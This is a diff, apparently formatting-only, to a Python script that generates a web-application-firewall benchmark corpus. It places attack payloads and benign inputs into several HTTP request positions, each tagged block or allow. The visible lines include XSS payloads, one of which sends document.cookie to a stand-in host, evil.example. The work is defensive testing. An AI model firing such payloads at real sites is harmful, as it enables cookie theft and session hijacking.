@@ -37,7 +37,7 @@ ATTACKS: dict[str, list[str]] = {
         "<img src=x onerror=alert(1)>",
         "<svg/onload=confirm(1)>",
         "javascript:alert(1)",
-        "<iframe src=\"javascript:alert(2)\"></iframe>",
+        '<iframe src="javascript:alert(2)"></iframe>',
         "\"><body onload=alert('x')>",
         "<a href=# onmouseover=\"fetch('//evil.example/'+document.cookie)\">x</a>",
     ],
@@ -104,11 +104,21 @@ UA = "Mozilla/5.0 (X11; Linux x86_64) portvakt-bench/1"
 BASE_HEADERS = {"Host": "localhost", "Accept": "application/json", "User-Agent": UA}
 
 
-def _rec(rid: str, category: str, expect: str, method: str, uri: str, headers: dict[str, str], body: str = "") -> dict:
+def _rec(
+    rid: str, category: str, expect: str, method: str, uri: str, headers: dict[str, str], body: str = ""
+) -> dict:
     return {
-        "id": rid, "category": category, "direction": "request", "method": method, "uri": uri,
-        "version": "HTTP/1.1", "headers": {**BASE_HEADERS, **headers}, "body": body, "body_b64": False,
-        "expect": expect, "source": "portvakt bench/waf_corpus.py",
+        "id": rid,
+        "category": category,
+        "direction": "request",
+        "method": method,
+        "uri": uri,
+        "version": "HTTP/1.1",
+        "headers": {**BASE_HEADERS, **headers},
+        "body": body,
+        "body_b64": False,
+        "expect": expect,
+        "source": "portvakt bench/waf_corpus.py",
     }
 
 
@@ -116,23 +126,64 @@ def placements(rid: str, category: str, expect: str, payload: str) -> list[dict]
     """One record per placement of ``payload``."""
     boundary = "----portvaktbench7MA4YWxkTrZu0gW"
     multipart = (
-        f"--{boundary}\r\nContent-Disposition: form-data; name=\"tittel\"\r\n\r\nByggesak\r\n"
-        f"--{boundary}\r\nContent-Disposition: form-data; name=\"merknad\"\r\n\r\n{payload}\r\n--{boundary}--\r\n"
+        f'--{boundary}\r\nContent-Disposition: form-data; name="tittel"\r\n\r\nByggesak\r\n'
+        f'--{boundary}\r\nContent-Disposition: form-data; name="merknad"\r\n\r\n{payload}\r\n--{boundary}--\r\n'
     )
     return [
-        _rec(f"{rid}-query", category, expect, "GET", "/bench/search?" + urlencode({"q": payload, "side": "1"}), {}),
+        _rec(
+            f"{rid}-query",
+            category,
+            expect,
+            "GET",
+            "/bench/search?" + urlencode({"q": payload, "side": "1"}),
+            {},
+        ),
         _rec(f"{rid}-path", category, expect, "GET", "/bench/items/" + quote(payload, safe=""), {}),
-        _rec(f"{rid}-cookie", category, expect, "GET", "/bench/items/42", {"Cookie": f"sid=9f2c41; pref={payload}"}),
+        _rec(
+            f"{rid}-cookie",
+            category,
+            expect,
+            "GET",
+            "/bench/items/42",
+            {"Cookie": f"sid=9f2c41; pref={payload}"},
+        ),
         _rec(f"{rid}-ua", category, expect, "GET", "/bench/items/42", {"User-Agent": f"{UA} {payload}"}),
-        _rec(f"{rid}-form", category, expect, "POST", "/bench/items",
-             {"Content-Type": "application/x-www-form-urlencoded"},
-             urlencode({"tittel": "Byggesak", "merknad": payload})),
-        _rec(f"{rid}-multipart", category, expect, "POST", "/bench/items",
-             {"Content-Type": f"multipart/form-data; boundary={boundary}"}, multipart),
-        _rec(f"{rid}-json", category, expect, "POST", "/bench/items", {"Content-Type": "application/json"},
-             json.dumps({"saksnummer": "2025/4711", "merknad": payload}, ensure_ascii=False)),
-        _rec(f"{rid}-xml", category, expect, "POST", "/bench/items", {"Content-Type": "application/xml"},
-             f"<?xml version=\"1.0\"?><sak><nummer>2025/4711</nummer><merknad>{escape(payload)}</merknad></sak>"),
+        _rec(
+            f"{rid}-form",
+            category,
+            expect,
+            "POST",
+            "/bench/items",
+            {"Content-Type": "application/x-www-form-urlencoded"},
+            urlencode({"tittel": "Byggesak", "merknad": payload}),
+        ),
+        _rec(
+            f"{rid}-multipart",
+            category,
+            expect,
+            "POST",
+            "/bench/items",
+            {"Content-Type": f"multipart/form-data; boundary={boundary}"},
+            multipart,
+        ),
+        _rec(
+            f"{rid}-json",
+            category,
+            expect,
+            "POST",
+            "/bench/items",
+            {"Content-Type": "application/json"},
+            json.dumps({"saksnummer": "2025/4711", "merknad": payload}, ensure_ascii=False),
+        ),
+        _rec(
+            f"{rid}-xml",
+            category,
+            expect,
+            "POST",
+            "/bench/items",
+            {"Content-Type": "application/xml"},
+            f'<?xml version="1.0"?><sak><nummer>2025/4711</nummer><merknad>{escape(payload)}</merknad></sak>',
+        ),
     ]
 
 
@@ -142,10 +193,20 @@ def build() -> list[dict]:
         for i, p in enumerate(payloads):
             out += placements(f"dense-{family}-{i}", family, "block", p)
     for i, doc in enumerate(XXE):
-        out.append(_rec(f"dense-xxe-{i}-xml", "xxe", "block", "POST", "/bench/items",
-                        {"Content-Type": "application/xml"}, doc))
-        out.append(_rec(f"dense-xxe-{i}-query", "xxe", "block", "GET",
-                        "/bench/search?" + urlencode({"q": doc}), {}))
+        out.append(
+            _rec(
+                f"dense-xxe-{i}-xml",
+                "xxe",
+                "block",
+                "POST",
+                "/bench/items",
+                {"Content-Type": "application/xml"},
+                doc,
+            )
+        )
+        out.append(
+            _rec(f"dense-xxe-{i}-query", "xxe", "block", "GET", "/bench/search?" + urlencode({"q": doc}), {})
+        )
     for i, p in enumerate(BENIGN):
         out += placements(f"dense-benign-{i}", "benign", "allow", p)
     return out
